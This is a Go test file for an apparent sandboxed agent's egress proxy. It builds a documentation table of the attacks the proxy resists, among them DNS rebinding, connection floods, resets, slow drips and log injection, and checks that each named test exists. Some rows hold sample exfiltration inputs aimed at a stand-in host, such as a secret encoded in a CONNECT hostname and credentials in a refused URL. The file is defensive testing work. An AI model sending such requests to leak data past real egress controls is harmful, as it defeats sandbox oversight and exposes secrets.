package egress

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/sandplan/sandplan/providers/docker/egress/reason"
)

const attacksFile = "../../../docs/attacks.md"

// Marks around the part of the page that is made here.
const (
	attacksBegin = "<!-- proxy: made by go test ./providers/docker/egress -run AttacksAreDocumented -update -->\n"
	attacksEnd   = "<!-- proxy: end -->\n"
)

func update() bool { f := flag.Lookup("update"); return f != nil && f.Value.String() == "true" }

// otherAttacks have a test of their own.
func otherAttacks() [][4]string {
	return [][4]string{
		{"a connection from another container", "any", "closed without an answer, `not_the_agent`", "TestOnlyTheAgentMayConnect"},
		{"a name in a refused request, as a message to its DNS server", "`CONNECT secret.evil.example:443`", "no query leaves", "TestNoQueryForARefusal"},
		{"an answer that is public when checked and private when dialled", "two CONNECTs", "one lookup per tunnel; dialled is what was checked", "TestNoQueryForARefusal"},
		{"answers with a guessed ID, or to another question", "DNS over UDP", "passed over", "TestLookup"},
		{"1,000 connections reset in every state", "RST behind 0 bytes, half a request, a request, a 200, half a hello", "no slot, descriptor or goroutine stays", "TestAttackResets, TestSoak"},
		{"resets and ends from both sides at any moment, so that a connection gets what another one is sent", "hundreds of tunnels with streams of their own", "each gets its own bytes; nothing stays when the run ends in the middle of it", "TestStreamsStayApart"},
		{"more tunnels at once than declared", "257 CONNECTs", "503 `too_many_tunnels`", "TestTunnelLimits"},
		{"more tunnels a second than declared", "CONNECTs in a loop", "429 `too_many_tunnels_per_second`", "TestTunnelsPerSecond"},
		{"a flood of refusals, to rotate the log away", "500 CONNECTs to one name", "counted in a few lines, others stay visible", "TestAttackManyRefusals, TestRepeatedRefusalsAreCounted"},
		{"a flood of refusals with names that differ", "CONNECTs to x1, x2, …", "the table is bounded, and what finds no place in it is counted (`unlisted`); a log that is full ends the run", "TestNamesThatDifferDoNotGrowTheTable, TestLogBudget"},
		{"a refusal in the shadow of one before it", "hellos with other names in tunnels to one host, a name with other private addresses", "a line for each; at first only the first one's name and address", "TestDifferentEvidenceIsNotFolded"},
		{"a refusal that looks like an allowed tunnel", "another name in a second hello, pipelined hellos, data before the answer", "told and counted as a refusal, with the name; at first only `closed`", "TestRefusalsInATunnel"},
		{"tunnels while nobody reads the log", "CONNECTs and hellos in a loop", "8 hellos leave, nothing of an answer passes; at first 64 KiB of lines", "TestHellosWaitForTheLog, TestNothingPassesUntold"},
		{"tunnels when the log is full or broken", "CONNECT, hello", "no lookup, nothing passes, the run ends", "TestNothingGoesOnWithoutALog"},
		{"as many connections as there are descriptors for", "connects that say nothing", "it waits without burning a core, and serves again", "TestNoDescriptors, TestAcceptBacksOff"},
		{"an upload above the declared bytes, over many tunnels", "64 MiB and more", "what does not fit stays, the run ends: `upload_limit`", "TestUploadLimitEndsAllUploads, TestBulkKeepsTheBudget"},
		{"uploads to a server that stops reading, to have the bound reached by bytes that never pass", "4 MiB and more, in each of some tunnels", "a MiB at most is held for each; at first 16", "TestStalledHoldLittleOfTheBudget"},
		{"a download above the declared bytes, over many tunnels", "one byte, answered with a MiB", "what does not fit stays, the run ends: `download_limit`", "TestDownloadLimitEndsAllDownloads, TestBulkKeepsTheDownloadBudget"},
		{"a reader that never reads, to fill the proxy's memory", "CONNECT, hello, then nothing read", "one buffer per direction; the server waits", "TestSlowReaderHoldsOneBuffer"},
		{"a half-close, to make a torn answer look whole", "FIN, RST", "passed on as what it is", "TestHalfCloseIsPassedOn, TestResetIsPassedOn"},
		{"a reset at the moment when something is sent to whom it comes from, to make a torn stream look whole", "RST", "passed on as a reset; at first as an end, 4 times in 1,200", "TestResetIsNoEnd"},
		{"a reset long behind an end, to hold a place, and to leave the other side waiting", "FIN, later RST, from either side", "passed on as a reset, the place is free; at first not seen", "TestResetBehindEndEndsTheTunnel, TestResetTakesNothingBack"},
		{"the run's end in the middle of streams, to make halves look whole", "half of something each way", "a reset to both sides; at first 8 of 12 clients saw an end", "TestRunsEndIsNoEnd"},
		{"a reset while a name is looked up or a host dialled, to hold a place until that is over", "a request, RST; the same behind a FIN", "given up within seconds, the place is free; at first when it was over, after 45 s at most. A FIN alone keeps it: who has said all may still listen", "TestResetWhileItWaits, TestEndWhileItWaits"},
		{"a reset while the other side reads nothing, to hold a place for as long as it does not", "an upload or a download that fills all buffers, RST", "passed on within seconds, the place is free; at first not seen until the other side moved", "TestResetWhileTheOtherReadsNothing, TestStalledOnly"},
		{"a reset for an answer that no line tells of", "hello, RST from the server, a log that nobody reads", "passes when the line is written, not before; at first at once", "TestResetWaitsForItsLine"},
		{"data behind the request in a later packet, before the answer", "CONNECT, while the name is looked up a hello or a second CONNECT", "400 `early_data`, nothing is forwarded; at first 200", "TestDataBeforeTheAnswer"},
		{"an end in the middle of what is held back, to make the rest look whole", "hello, half a record, FIN", "closed, `hello_missing`; the server is reset", "TestHalfARecordIsNoEnd, TestHalfARecordWhenTheOtherEnds"},
		{"a password in a refused URL, to be read in the log", "`GET http://user:hunter2@evil.example/path?token=s3cret`", "logged and answered is `evil.example`", "TestRefusedURLIsNoSecretInTheLog"},
		{"a request or a hello byte by byte, to hold a place for ever", "one byte every 20 ms", "408 `head_too_slow`, closed `hello_too_slow`: the whole is bounded", "TestAttackDrip"},
		{"an urgent byte inside the target and inside the hello's name", "MSG_OOB", "no part of what is read; forwarded is exactly what was checked", "TestAttackUrgent"},
		{"an urgent byte within bulk, so that what follows is lost and the rest looks whole", "4 MiB, MSG_OOB, 7 bytes, FIN", "all but the urgent byte arrives, then the FIN; at first the splice took it for the end", "TestUrgentInBulk"},
		{"the allowed target behind a refusal, on the same connection", "two CONNECTs", "one answer; nothing is dialled", "TestAttackBehindRefusal"},
		{"a server that speaks first, to receive without a hello", "CONNECT, then nothing", "none of it passes; `hello_too_slow`", "TestAttackServerSpeaksFirst"},
		{"a request and a FIN, to listen to the server", "CONNECT, FIN", "none of it passes; `unused`", "TestAttackFINBehindRequest"},
		{"lines of its own, or a terminal's commands, in the log", "hellos whose name has quotes, line feeds, ESC, CSI in eight bits, a bidirectional override", "one line of ASCII for each", "TestAttackLog, FuzzEntry"},
		{"all descriptors that the kernel watches for one user, when agent and proxy have the same", "epoll_ctl in a loop, in the agent", "new connections are closed and told; it waits, and goes on", "TestUnwatchedConnection"},
		{"connections that say nothing, to hold places", "connects", "left to the kernel for a second, then 408 `head_too_slow`", "TestSilentConnectionIsBounded"},
		{"hours of silence, to be cut off", "nothing", "the tunnel stands", "TestSilenceOfHours"},
	}
}

// sent are bytes as the page shows them.
func sent(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	var s string
	if b[0] >= ' ' && b[0] < 0x7f || b[0] == '\r' {
		s = fmt.Sprintf("%q", b)
		s = s[1 : len(s)-1]
		if len(s) > 90 {
			s = s[:70] + fmt.Sprintf("… (%d bytes)", len(b))
		}
	} else {
		s = fmt.Sprintf("% x", b[:min(len(b), 12)])
		if len(b) > 12 {
			s += fmt.Sprintf(" … (%d bytes)", len(b))
		}
	}
	return "`" + strings.ReplaceAll(s, "|", `\|`) + "`"
}

func attackTables(t *testing.T) string {
	var b strings.Builder
	heading := func(text, column string) {
		fmt.Fprintf(&b, "\n%s\n\n| attempt | %s | result | test |\n|---|---|---|---|\n", text, column)
	}
	line := func(name, bytes, result, test string) {
		fmt.Fprintf(&b, "| %s | %s | %s | %s |\n", name, bytes, result, test)
	}
	heading("The request. Nothing is looked up and nothing dialled.", "bytes sent")
	for _, a := range requestAttacks() {
		bytes := sent(a.send)
		if a.close {
			bytes += ", then FIN"
		}
		line(a.name, bytes, fmt.Sprintf("%d `%s`", a.code, a.why), "TestAttackRequest/"+slug(a.name))
	}
	heading("Behind the 200 of a tunnel to the vendor. No byte of what is refused reaches the server. (Hellos hold random bytes; "+
		"their length is that of Go's client.)", "bytes sent")
	for _, a := range helloAttacks(t) {
		line(a.name, helloSent(a), fmt.Sprintf("closed, `%s`", a.why), "TestAttackHello/"+slug(a.name))
	}
	heading("DNS answers for the vendor's name. Nothing is dialled.", "answer")
	for _, a := range dnsAttacks() {
		line(a.name, dnsSent(a), fmt.Sprintf("refused, `%s`", a.why), "TestAttackDNS/"+slug(a.name))
	}
	heading("Everything else.", "what is sent")
	for _, o := range otherAttacks() {
		line(o[0], o[1], o[2], o[3])
	}
	return b.String()
}

func slug(name string) string { return strings.ReplaceAll(name, " ", "_") }

func helloSent(a attack) string {
	// Of a real hello only the shape is the same each time.
	shape := func(b []byte) string {
		if len(b) > 100 && b[0] == 22 {
			return fmt.Sprintf("`16 03 0%d %02x %02x …`", b[2], b[3], b[4])
		}
		return sent(b)
	}
	out := shape(a.send)
	if a.why == reason.DataBeforeAnswer {
		out += " and more in one piece"
	}
	if a.close {
		out += ", then FIN"
	}
	if a.answer != nil {
		out += "; the server: " + shape(a.answer)
	}
	if a.then != nil {
		out += "; " + shape(a.then)
	}
	return out
}

func dnsSent(a dnsAttack) string {
	if a.raw != nil {
		return sent(a.raw)
	}
	var parts []string
	for _, r := range a.answers() {
		s := r.Body.GoString()
		s = regexp.MustCompile(`A: \[4\]byte\{([0-9, ]+)\}`).ReplaceAllStringFunc(s, func(m string) string {
			return "A " + strings.ReplaceAll(strings.TrimSuffix(strings.TrimPrefix(m, "A: [4]byte{"), "}"), ", ", ".")
		})
		s = strings.NewReplacer("dnsmessage.AResource{", "", "dnsmessage.CNAMEResource{CNAME: dnsmessage.MustNewName(", "CNAME ", "}", "", ")", "", `"`, "", "&", "").Replace(s)
		parts = append(parts, s)
	}
	if len(parts) > 3 {
		parts = append(parts[:2], fmt.Sprintf("… (%d records)", len(parts)))
	}
	if len(parts) == 0 {
		parts = []string{"no record"}
	}
	return "`" + strings.Join(parts, ", ") + "`"
}

// TestAttacksAreDocumented holds the page to the tables, and its tests to what there is.
func TestAttacksAreDocumented(t *testing.T) {
	page, err := os.ReadFile(attacksFile)
	if err != nil {
		t.Fatal(err)
	}
	before, rest, ok1 := bytes.Cut(page, []byte(attacksBegin))
	was, after, ok2 := bytes.Cut(rest, []byte(attacksEnd))
	if !ok1 || !ok2 {
		t.Fatalf("%s lacks the marks around the proxy's part", attacksFile)
	}
	is := attackTables(t)
	// A hello's length depends on the library that makes it, and random bytes stand in it.
	random := regexp.MustCompile(`16 03 01 [0-9a-f ]+…( \([0-9]+ bytes\))?`)
	same := func(s string) string { return random.ReplaceAllString(s, "16 03 01 …") }
	switch {
	case same(string(was)) == same(is):
	case update():
		out := append(append(append(append(bytes.Clone(before), attacksBegin...), is...), attacksEnd...), after...)
		if err := os.WriteFile(attacksFile, out, 0o644); err != nil {
			t.Fatal(err)
		}
	default:
		t.Errorf("%s is not what the tests try; run this test with -update and read the difference", attacksFile)
	}
	src := ""
	for _, pattern := range []string{".", "hello"} {
		files, err := os.ReadDir(pattern)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range files {
			if strings.HasSuffix(f.Name(), "_test.go") {
				b, err := os.ReadFile(pattern + "/" + f.Name())
				if err != nil {
					t.Fatal(err)
				}
				src += string(b)
			}
		}
	}
	for _, o := range otherAttacks() {
		for _, name := range strings.Split(o[3], ", ") {
			if !strings.Contains(src, "func "+name+"(") {
				t.Errorf("%s: there is no %s", o[0], name)
			}
		}
	}
}
